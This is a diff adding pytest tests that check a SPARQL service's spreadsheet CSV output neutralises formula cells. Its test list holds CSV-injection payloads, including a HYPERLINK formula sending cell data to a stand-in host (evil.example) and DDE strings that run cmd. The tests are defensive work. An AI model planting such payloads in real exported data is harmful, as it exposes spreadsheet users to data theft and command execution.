@@ -187,3 +187,51 @@ def test_negotiation_gives_the_same_choice_or_refusal_every_time():
         with pytest.raises(Problem) as refused:
             choose(None, RESULT_FORMATS, "nope")
         assert refused.value.detail == "format 'nope' is not one of: json, xml, csv, tsv"
+
+
+# --- CSV for spreadsheets: no cell runs as a formula (OWASP, CSV injection) ------------------------
+
+RISKY = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTAB=1+1",
+    "\r=1+1",
+]
+SAFE = ["-5", "+3.25", "-1.5e3", "plain, text", "a = b", "'quoted already"]
+
+
+def _values_query(texts: list[str]) -> str:
+    # pyoxigraph's own writer escapes each text as a SPARQL string literal
+    return "SELECT ?x WHERE { VALUES ?x { " + " ".join(str(ox.Literal(t)) for t in texts) + " } }"
+
+
+def test_csv_for_spreadsheets_quotes_and_prefixes_cells_that_would_run(client):
+    r = client.get("/sparql", params={"query": _values_query(RISKY + SAFE), "format": "csv", "bom": "true"})
+    assert r.status_code == 200 and r.content.startswith(BOM)
+    body = r.content.decode("utf-8-sig")
+    assert body.split("\r\n")[1:4] == [
+        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
+        "\"'+cmd|' /C calc'!A0\"",
+        '"\'-2+3"',
+    ]
+    cells = [row[0] for row in csv.reader(io.StringIO(body, newline=""))][1:]
+    assert cells == ["'" + t for t in RISKY] + SAFE  # numbers and harmless text unchanged
+
+
+def test_plain_sparql_csv_stays_exact(client):
+    r = client.get("/sparql", params={"query": _values_query(RISKY + SAFE), "format": "csv"})
+    assert r.status_code == 200 and not r.content.startswith(BOM)
+    cells = [row[0] for row in csv.reader(io.StringIO(r.content.decode("utf-8"), newline=""))][1:]
+    assert cells == RISKY + SAFE
+
+
+def test_csv_for_spreadsheets_of_safe_answers_is_the_plain_csv_marked(client):
+    for path, params in (
+        ("/queries/care-clusters", {"format": "csv", "limit": 5}),
+        ("/sparql", {"query": POUNDS, "format": "csv"}),
+    ):
+        plain = client.get(path, params=params)
+        marked = client.get(path, params={**params, "bom": "true"})
+        assert marked.status_code == 200 and marked.content == BOM + plain.content
